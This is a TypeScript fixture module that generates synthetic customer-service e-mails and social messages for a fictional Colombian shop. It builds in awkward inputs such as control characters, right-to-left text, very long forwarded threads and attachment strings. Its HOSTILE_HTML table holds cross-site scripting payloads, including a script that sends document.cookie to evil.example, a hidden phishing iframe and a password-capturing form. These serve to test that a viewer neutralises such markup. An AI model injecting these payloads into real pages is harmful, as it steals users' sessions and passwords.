import { BRAND, type Channel, type Customer } from './people';
import { pick, type Rng } from './prng';
import type { Language } from './topics';

/**
 * The awkward parts of real traffic, in fixed tables: HTML e-mails with remote images, hostile markup,
 * emoji, right-to-left text, control characters, very long bodies, attachment strings. Table text holds
 * no markup characters of its own, so wrapping it in HTML needs no escaping.
 */

export const EMOJI: readonly string[] = ['🙏', '😡', '📦', '👍', '❤️', '😊', '🤬', '👨‍👩‍👧', '🇨🇴', '⏳', '💳', '🔒'];

export const RTL_TEXT: readonly string[] = ['مرحبا، لم يصلني الطلب بعد', 'שלום, ההזמנה שלי לא הגיעה', 'شكرا جزيلا على المساعدة'];

/** NUL, bell, escape sequences, zero-width and bidi overrides, a lone surrogate: all legal in JSON, hostile downstream. */
export const CONTROL_CHARS: readonly string[] = [
  '\u0000',
  '\u0001',
  '\u0007',
  '\b',
  '\u000b',
  '\f',
  '\u001b[31m',
  '\u007f',
  '\u200b',
  '\ufeff',
  '\u2028',
  '\u202e',
  '\ud83d',
  '\r\n\r\n',
];

/** Markup a viewer must neutralise: scripts, event handlers, javascript: links, frames, forms. */
export const HOSTILE_HTML: readonly string[] = [
  "<script>fetch('http://evil.example/steal?c='+document.cookie)</script>",
  '<img src="x" onerror="alert(\'xss\')">',
  '<a href="javascript:alert(document.domain)">Haga clic aquí para ver su factura</a>',
  '<iframe src="http://evil.example/phish" width="0" height="0"></iframe>',
  '<svg onload="alert(1)"></svg>',
  '<form action="http://evil.example/login"><input name="password" type="password"></form>',
];

function longTail(paragraph: string, header: string): string {
  const block = `\n\n${header}\n${paragraph}`;
  return block.repeat(Math.ceil(100_000 / block.length));
}

/** ~100 KB forwarded threads, built once and shared (records append them, V8 keeps one copy). */
const LONG_TAIL: Record<Language, string> = {
  es: longTail(
    'Buenos días, reenvío la conversación completa porque nadie me ha dado solución. Ya llamé a la línea de atención, escribí por WhatsApp y por Facebook, y cada asesor me pide la misma información: número de pedido, cédula, dirección y la factura. Les pido revisar el historial antes de responder.',
    '-----Mensaje reenviado-----',
  ),
  en: longTail(
    'Good morning, I am forwarding the whole thread because nobody has solved this yet. I called the helpline, wrote on WhatsApp and Facebook, and every agent asks me for the same information: order number, ID, address and the invoice. Please read the history before you answer.',
    '---------- Forwarded message ----------',
  ),
};

export function withLongTail(text: string, lang: Language): string {
  return text + LONG_TAIL[lang];
}

/** Puts a control character in the middle of the text, where a naive cleaner would not look. */
export function withControlChar(rng: Rng, text: string): string {
  const at = Math.floor(text.length / 2);
  return text.slice(0, at) + pick(rng, CONTROL_CHARS) + text.slice(at);
}

export interface EmailParts {
  lang: Language;
  text: string;
  order: string;
  amount: string;
  trackerId: number;
  hostile: string;
}

/** An HTML e-mail as mail clients send them: table, link, remote tracking pixel, signature. */
export function htmlEmail(p: EmailParts): string {
  const es = p.lang === 'es';
  return (
    '<html><head><meta charset="utf-8"><style>td{padding:4px;border:1px solid #ccc}</style></head><body>' +
    `<p>${p.text}</p>` +
    `<table><tr><th>${es ? 'Pedido' : 'Order'}</th><th>${es ? 'Valor' : 'Amount'}</th></tr>` +
    `<tr><td>${p.order}</td><td>$${p.amount}</td></tr></table>` +
    `<p><a href="https://www.tiendaaurora.com.co/mis-pedidos/${p.order}">${es ? 'Ver mi pedido' : 'View my order'}</a></p>` +
    `<img src="http://img.mailtrack.example/open.gif?id=${p.trackerId}" width="1" height="1" alt="">` +
    p.hostile +
    `<p>${es ? 'Enviado desde mi iPhone' : 'Sent from my iPhone'}</p></body></html>`
  );
}

export function htmlAnswer(text: string, agent: string): string {
  return `<p>${text}</p><p>--<br>${agent}<br>Tienda Aurora · Servicio al cliente</p>`;
}

const ATTACHMENTS: readonly string[] = [
  'factura_{n}.pdf',
  'captura de pantalla.png',
  'https://files.wolkvox-sim.example/att/{n}/comprobante.jpg',
  'foto1.jpg;foto2.jpg',
  'extracto_bancario_{n}.pdf',
];

export function attachmentOf(rng: Rng, n: number): string {
  return pick(rng, ATTACHMENTS).replace('{n}', String(n));
}

export interface Addressing {
  from: string;
  to: string;
  /** Social channels put the writer's name where e-mail has a subject. */
  subjectIsName: boolean;
}

/** Sender and recipient as each channel shows them; `customerNo` keeps them stable within a case. */
export function addressingOf(channel: Channel, customer: Customer, customerNo: number, domain: string): Addressing {
  switch (channel) {
    case 'Email':
      return { from: `${customer.handle}${customerNo % 100}@${domain}`, to: BRAND.email, subjectIsName: false };
    case 'WhatsApp':
      return {
        from: `573${String(100_000_000 + customerNo * 7919).slice(0, 9)} - ${customer.name}`,
        to: BRAND.whatsapp,
        subjectIsName: true,
      };
    case 'facebook_page':
      return { from: `${1_000_000_000_000 + customerNo * 104_729} - ${customer.name}`, to: BRAND.facebook, subjectIsName: true };
    case 'instagram':
      return { from: `@${customer.handle}${customerNo % 1000}`, to: BRAND.instagram, subjectIsName: true };
    case 'twitter':
      return { from: `@${customer.handle.replace('.', '_')}${customerNo % 100}`, to: BRAND.twitter, subjectIsName: true };
  }
}
